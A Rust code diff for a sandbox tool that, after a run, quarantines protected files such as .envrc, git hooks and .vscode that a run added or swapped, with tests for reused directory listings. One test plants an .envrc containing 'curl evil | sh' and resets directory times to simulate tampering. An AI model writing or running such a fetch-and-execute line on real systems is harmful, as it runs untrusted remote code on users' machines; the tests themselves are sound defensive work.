@@ -19,7 +19,7 @@ use nix::fcntl::RenameFlags;
 use nix::sys::stat::Mode;
 use serde::Serialize;
 
-use super::scan::{self, Identity, ScanError};
+use super::scan::{self, Identity, ListedDir, ScanError};
 use super::Rules;
 
 /// One entry moved aside.
@@ -41,11 +41,25 @@ pub struct Sweep {
     /// Protected entries put back as they were before the run (runs
     /// without namespaces, where they could not be read-only during it).
     pub restored: Vec<PathBuf>,
+    /// Directories listed, and directories the scan's listing was kept for
+    /// because the kernel shows them unchanged since.
+    #[serde(skip)]
+    pub dirs: SweptDirs,
+}
+
+/// How the sweep went through the project's directories.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct SweptDirs {
+    /// Listed again.
+    pub listed: u64,
+    /// Taken as the scan listed them.
+    pub unchanged: u64,
 }
 
 struct Sweeper<'a> {
     rules: &'a Rules,
     before: &'a HashMap<PathBuf, Identity>,
+    listed: &'a HashMap<PathBuf, ListedDir>,
     suffix: String,
     sweep: Sweep,
     components: Vec<Vec<u8>>,
@@ -66,6 +80,24 @@ impl Sweeper<'_> {
                 .push((here, "nested too deep to sweep".into()));
             return;
         }
+        // Unchanged since the scan listed it: every entry is the one the
+        // scan saw, so none is new and none was swapped; only what is below
+        // its subdirectories can be.
+        let listed = self.listed.get(&here);
+        if let Some(unchanged) = listed.and_then(|listed| {
+            nix::sys::stat::fstat(dir.as_fd())
+                .ok()
+                .and_then(|now| listed.unchanged_subdirs(&now))
+        }) {
+            self.sweep.dirs.unchanged += 1;
+            for name in unchanged {
+                self.components.push(name.clone());
+                self.descend(dir, name);
+                self.components.pop();
+            }
+            return;
+        }
+        self.sweep.dirs.listed += 1;
         let names = match scan::list(dir, &here) {
             Ok(names) => names,
             Err(err) => {
@@ -74,17 +106,18 @@ impl Sweeper<'_> {
             }
         };
         for (name, reported) in names {
-            self.components.push(name.clone());
-            self.entry(dir, &name, reported);
+            self.components.push(name);
+            self.entry(dir, reported);
             self.components.pop();
         }
     }
 
-    fn entry(&mut self, dir: &OwnedFd, name: &[u8], reported: Option<Type>) {
-        let path = relative(&self.components);
+    /// The entry last in `components`.
+    fn entry(&mut self, dir: &OwnedFd, reported: Option<Type>) {
+        let name = self.components.last().map(Vec::as_slice).unwrap_or(b"");
         let stat = match reported {
             Some(_) => None,
-            None => match scan::stat_at(dir, name, &path) {
+            None => match scan::stat_at(dir, name, Path::new("")) {
                 Ok(s) => Some(s),
                 Err(_) => return, // gone since listed: nothing to sweep
             },
@@ -100,9 +133,11 @@ impl Sweeper<'_> {
             return; // masked during the run: what is below is not the run's
         }
         if self.rules.is_protected(&self.components, is_dir) {
+            let name = name.to_vec();
+            let path = relative(&self.components);
             let stat = match stat {
                 Some(s) => s,
-                None => match scan::stat_at(dir, name, &path) {
+                None => match scan::stat_at(dir, &name, &path) {
                     Ok(s) => s,
                     Err(_) => return,
                 },
@@ -111,19 +146,28 @@ impl Sweeper<'_> {
             if self.before.get(&path) == Some(&identity) {
                 return; // the entry the run was shown, read-only throughout
             }
-            self.quarantine(dir, name, path);
+            self.quarantine(dir, &name, path);
             return;
         }
         if is_dir {
-            match nix::fcntl::openat(
-                dir.as_fd(),
-                OsStr::from_bytes(name),
-                scan_dir_flags(),
-                Mode::empty(),
-            ) {
-                Ok(child) => self.walk(&child),
-                Err(errno) => self.sweep.failed.push((path, errno.desc().into())),
-            }
+            let name = name.to_vec();
+            self.descend(dir, &name);
+        }
+    }
+
+    /// Sweep the directory `name` in `dir` (last in `components`).
+    fn descend(&mut self, dir: &OwnedFd, name: &[u8]) {
+        match nix::fcntl::openat(
+            dir.as_fd(),
+            OsStr::from_bytes(name),
+            scan_dir_flags(),
+            Mode::empty(),
+        ) {
+            Ok(child) => self.walk(&child),
+            Err(errno) => self
+                .sweep
+                .failed
+                .push((relative(&self.components), errno.desc().into())),
         }
     }
 
@@ -175,17 +219,20 @@ fn scan_dir_flags() -> nix::fcntl::OFlag {
 }
 
 /// Sweep the project at `root` after a run named `run` (used in the new
-/// names). `before` is what the scan found protected.
+/// names). `before` is what the scan found protected, `listed` the
+/// directories it listed ([`crate::project::scan::Scan::listed_dirs`]).
 pub fn sweep(
     root: &Path,
     rules: &Rules,
     before: &HashMap<PathBuf, Identity>,
+    listed: &HashMap<PathBuf, ListedDir>,
     run: &str,
 ) -> Result<Sweep, ScanError> {
     let dir = scan::open_root(root)?;
     let mut sweeper = Sweeper {
         rules,
         before,
+        listed,
         suffix: format!(".sandbox-quarantine-{run}"),
         sweep: Sweep::default(),
         components: Vec::new(),
@@ -614,7 +661,14 @@ mod tests {
         std::fs::write(p.join("deep/.git"), "gitdir: ../evil").unwrap();
         std::fs::write(p.join(".env"), "not swept: a secret, not protected").unwrap();
 
-        let sweep = sweep(p, &rules, &before.protected_before, "r1").unwrap();
+        let sweep = sweep(
+            p,
+            &rules,
+            &before.protected_before,
+            &before.listed_dirs,
+            "r1",
+        )
+        .unwrap();
         let mut moved: Vec<String> = sweep
             .quarantined
             .iter()
@@ -638,5 +692,159 @@ mod tests {
         );
         assert!(p.join(".git/hooks").is_dir() && p.join(".git/config").is_file());
         assert!(p.join(".env").exists());
+    }
+
+    /// Waits until every entry's ctime below `root` is old enough for a
+    /// scan to record its directory (the clock passes it by two seconds):
+    /// a condition on the clock, not a guess of how long that takes.
+    fn until_directories_are_old_enough(root: &Path) {
+        use std::os::unix::fs::MetadataExt;
+        fn newest(path: &Path) -> i64 {
+            let meta = std::fs::symlink_metadata(path).unwrap();
+            let mut ctime = meta.ctime();
+            if meta.is_dir() {
+                for entry in std::fs::read_dir(path).unwrap() {
+                    ctime = ctime.max(newest(&entry.unwrap().path()));
+                }
+            }
+            ctime
+        }
+        let newest = newest(root);
+        while std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs() as i64
+            <= newest + 2
+        {
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+    }
+
+    /// The sweep keeps the scan's listing of a directory only while the
+    /// kernel shows it unchanged: entries a run adds deep in the tree, in
+    /// directories the scan recorded, are still found and moved aside, and
+    /// a protected entry swapped for another object is too.
+    #[test]
+    fn entries_added_deep_in_recorded_directories_are_still_swept() {
+        let rules = Rules {
+            secrets: PatternList::parse(&[".env", ".ssh/"]).unwrap(),
+            protect: PatternList::parse(&[".git/**/hooks", ".envrc", ".vscode/"]).unwrap(),
+        };
+        let project = tempfile::tempdir().unwrap();
+        let p = project.path();
+        for dir in ["a/b/c/d/e", "a/b/x", "f/g", "h", ".git/hooks", "k/.ssh"] {
+            std::fs::create_dir_all(p.join(dir)).unwrap();
+        }
+        std::fs::write(p.join("a/b/c/d/e/file.js"), "x").unwrap();
+        std::fs::write(p.join("h/.envrc"), "the one the run is shown").unwrap();
+        until_directories_are_old_enough(p);
+        let before = scan(p, &rules, true, HardlinkPolicy::ReadOnly).unwrap();
+        // Root, a, a/b, a/b/c, a/b/c/d, a/b/c/d/e, a/b/x, f, f/g, h, .git;
+        // not what is protected or secret (.git/hooks, k/.ssh).
+        let mut recorded: Vec<String> = before
+            .listed_dirs
+            .keys()
+            .map(|p| p.display().to_string())
+            .collect();
+        recorded.sort();
+        assert_eq!(
+            recorded,
+            [
+                "",
+                ".git",
+                "a",
+                "a/b",
+                "a/b/c",
+                "a/b/c/d",
+                "a/b/c/d/e",
+                "a/b/x",
+                "f",
+                "f/g",
+                "h",
+                "k"
+            ]
+        );
+
+        // What a run could do after the scan, deep down and in place, then
+        // put the directory's times back as they were (the payload owns
+        // it): utimensat sets mtime and atime, and ctime to now.
+        let e = p.join("a/b/c/d/e");
+        let old = std::fs::metadata(&e).unwrap();
+        std::fs::write(e.join(".envrc"), "curl evil | sh").unwrap();
+        std::fs::File::open(&e)
+            .unwrap()
+            .set_times(
+                std::fs::FileTimes::new()
+                    .set_modified(old.modified().unwrap())
+                    .set_accessed(old.accessed().unwrap()),
+            )
+            .unwrap();
+        assert_eq!(
+            std::fs::metadata(&e).unwrap().modified().unwrap(),
+            old.modified().unwrap()
+        );
+        std::fs::create_dir(p.join("f/g/.vscode")).unwrap();
+        // Written beside it and renamed over it: another inode.
+        std::fs::write(p.join("h/new"), "not the file the run was shown").unwrap();
+        std::fs::rename(p.join("h/new"), p.join("h/.envrc")).unwrap();
+
+        let sweep = sweep(
+            p,
+            &rules,
+            &before.protected_before,
+            &before.listed_dirs,
+            "r2",
+        )
+        .unwrap();
+        let mut moved: Vec<String> = sweep
+            .quarantined
+            .iter()
+            .map(|q| q.path.display().to_string())
+            .collect();
+        moved.sort();
+        assert_eq!(moved, ["a/b/c/d/e/.envrc", "f/g/.vscode", "h/.envrc"]);
+        assert!(sweep.failed.is_empty(), "{:?}", sweep.failed);
+        // Listed again: the three directories changed; the others were
+        // taken as the scan listed them.
+        assert_eq!(
+            sweep.dirs,
+            SweptDirs {
+                listed: 3,
+                unchanged: 9
+            }
+        );
+
+        // A second sweep finds nothing more, and still lists the three
+        // directories (the renames changed them again) and the directory
+        // moved aside, which the scan never saw.
+        let again = super::sweep(
+            p,
+            &rules,
+            &before.protected_before,
+            &before.listed_dirs,
+            "r3",
+        )
+        .unwrap();
+        assert!(again.quarantined.is_empty(), "{:?}", again.quarantined);
+        assert_eq!(again.dirs.listed, 4);
+    }
+
+    /// A directory whose ctime a remote server keeps, or which changed in
+    /// the last two seconds before the scan, is never recorded: the sweep
+    /// lists it again.
+    #[test]
+    fn directories_changed_just_before_the_scan_are_not_recorded() {
+        let rules = Rules {
+            secrets: PatternList::default(),
+            protect: PatternList::parse(&[".envrc"]).unwrap(),
+        };
+        let project = tempfile::tempdir().unwrap();
+        let p = project.path();
+        std::fs::create_dir_all(p.join("a/b")).unwrap();
+        until_directories_are_old_enough(p);
+        std::fs::write(p.join("a/b/new.js"), "x").unwrap();
+        let before = scan(p, &rules, true, HardlinkPolicy::ReadOnly).unwrap();
+        assert!(before.listed_dirs.contains_key(Path::new("a")));
+        assert!(!before.listed_dirs.contains_key(Path::new("a/b")));
     }
 }
